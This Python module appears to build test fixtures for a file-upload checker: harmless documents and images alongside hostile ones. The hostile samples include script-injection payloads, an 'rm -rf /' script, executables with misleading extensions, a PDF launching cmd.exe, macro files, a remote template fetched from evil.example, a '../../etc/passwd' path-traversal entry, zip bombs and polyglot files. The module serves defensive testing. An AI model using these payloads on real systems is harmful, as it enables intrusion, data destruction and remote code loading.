"""Files as they come: harmless ones, and ones that are not what they say."""

import io
import struct
import zipfile
import zlib

from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT = "application/vnd.oasis.opendocument.text"


def pdf(body: bytes = b"") -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\n" + body + b"\ntrailer\n<< >>\n%%EOF\n"


def picture(kind: str) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (16, 16), "red").save(made, kind)
    return made.getvalue()


def packed(parts: dict[str, bytes], level: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", level) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def types(content_type: str) -> bytes:
    return f'<Types><Override ContentType="{content_type}.main+xml"/></Types>'.encode()


def docx(**more: bytes) -> bytes:
    parts = {"[Content_Types].xml": types(WORD), "word/document.xml": b"<w:document/>"}
    return packed(parts | {name.replace("__", "/"): part for name, part in more.items()})


def xlsx(more: dict[str, bytes] | None = None) -> bytes:
    parts = {"[Content_Types].xml": types(SHEET), "xl/workbook.xml": b"<workbook/>"}
    return packed(parts | (more or {}))


def word_with(more: dict[str, bytes]) -> bytes:
    parts = {"[Content_Types].xml": types(WORD), "word/document.xml": b"<w:document/>"}
    return packed(parts | more)


def odt(more: dict[str, bytes] | None = None, mimetype: bytes = ODT.encode()) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype, zipfile.ZIP_STORED)
        for name, content in ({"content.xml": b"<office/>"} | (more or {})).items():
            archive.writestr(name, content)
    return made.getvalue()


def lying_zip() -> bytes:
    """A document whose directory says that a part is a tenth as long as it is."""
    honest = word_with({"word/media/image1.bmp": b"\0" * 90_000})
    size = struct.pack("<I", 90_000)
    return honest.replace(size, struct.pack("<I", 9_000))


def png_chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def huge_png() -> bytes:
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 1_000)
    chunks = [(b"IHDR", header), (b"IDAT", pixels), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(*chunk) for chunk in chunks)


HARMLESS = {
    "plan.pdf": pdf(),
    "Plan für 2026.docx": docx(),
    "costs.XLSX": xlsx(),
    "notes.odt": odt(),
    "photo.jpeg": picture("JPEG"),
    "photo.png": picture("PNG"),
    "notes.txt": "Café, and “quotes”.\r\n".encode(),
    "old.txt": "Caf\xe9".encode("cp1252"),
    "wide.txt": "Hello".encode("utf-16"),
    "table.csv": b"name,age\nAnn,42\n",
}

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 64
EXE = b"MZ\x90\0" + b"\0" * 200 + b"PE\0\0"
MACRO = "application/vnd.ms-word.document.macroEnabled"
REMOTE = (
    b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate"'
    b' Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)

HOSTILE = {
    "picture.svg": SVG,
    "picture.png": SVG,
    "page.html": HTML,
    "page.pdf": HTML,
    "page.txt": HTML,
    "page2.txt": b"\n\n  " + SVG,
    "table.csv": b"a,b\n1,<script>alert(1)</script>\n",
    "xml.txt": b"<?xml version='1.0'?><a/>",
    "script.txt": b"#!/bin/sh\nrm -rf /\n",
    "program.exe": EXE,
    "program.pdf": EXE,
    "program.jpg": ELF,
    "program.docx": ELF,
    "binary.txt": b"\0\1\2\3" * 20,
    "noname": pdf(),
    "plan.pdf.exe": pdf(),
    "double.docm": word_with({}),
    "word.pdf": docx(),
    "pdf.docx": pdf(),
    "sheet.docx": xlsx(),
    "word.xlsx": docx(),
    "word.odt": docx(),
    "plain.docx": packed({"readme.txt": b"hello"}),
    "leading.pdf": b"<html><script>alert(1)</script></html>" + pdf(),
    "trailing.pdf": pdf() + HTML,
    "zipped.pdf": pdf() + packed({"a.txt": b"x"}),
    "launch.pdf": pdf(b"<< /S /Launch /F (cmd.exe) >>"),
    "script.pdf": pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    "embedded.pdf": pdf(b"<< /Type /EmbeddedFile >>"),
    "cut.pdf": b"%PDF-1.7\n1 0 obj",
    "macro.docx": word_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "macro2.docx": packed(
        {"[Content_Types].xml": types(WORD) + types(MACRO), "word/document.xml": b"<w/>"}
    ),
    "macro.xlsx": xlsx({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "macrosheet.xlsx": xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}),
    "macro.odt": odt({"Basic/Standard/Module1.xml": b"<x/>"}),
    "script.odt": odt({"Scripts/python/a.py": b"x"}),
    "other.odt": odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"),
    "template.docx": word_with({"word/_rels/settings.xml.rels": REMOTE}),
    "ole.docx": word_with({"word/embeddings/oleObject1.bin": EXE}),
    "exe-inside.docx": word_with({"word/media/setup.exe": EXE}),
    "embedded-macro.docx": word_with(
        {"word/embeddings/book.xlsx": xlsx({"xl/vbaProject.bin": b"x"})}
    ),
    "embedded-other.docx": word_with({"word/embeddings/book.zip": packed({"a": b"x"})}),
    "entity.docx": packed(
        {
            "[Content_Types].xml": types(WORD),
            "word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
        }
    ),
    "up.docx": word_with({"../../etc/passwd": b"x"}),
    "leading.docx": b"MZ" + docx(),
    "prefix.docx": HTML + docx(),
    "trailing.docx": docx() + HTML,
    "bomb.docx": word_with({"word/media/image1.bmp": b"\0" * 70_000_000}),
    "ratio.docx": word_with({"word/media/image1.bmp": b"\0" * 9_000_000}),
    "lying.docx": lying_zip(),
    "many.docx": word_with({f"word/media/{n}.bmp": b"" for n in range(2_001)}),
    "trailing.png": picture("PNG") + HTML,
    "markup.png": picture("PNG")[:-12]
    + png_chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")
    + png_chunk(b"IEND", b""),
    "huge.png": huge_png(),
    "cut.png": picture("PNG")[:-20],
    "trailing.jpg": picture("JPEG") + packed({"a.txt": b"x"}),
    "cut.jpg": picture("JPEG")[:200],
    "jar.jpg": picture("JPEG")[:-2] + packed({"META-INF/MANIFEST.MF": b"x"}) + b"\xff\xd9",
    "script.jpg": picture("JPEG")[:-2] + b"<script>alert(1)</script>\xff\xd9",
    "gif.png": b"GIF89a" + b"\0" * 40,
    "rtf.txt": b"{\\rtf1\\ansi hello}",
    "empty.pdf": b"",
}
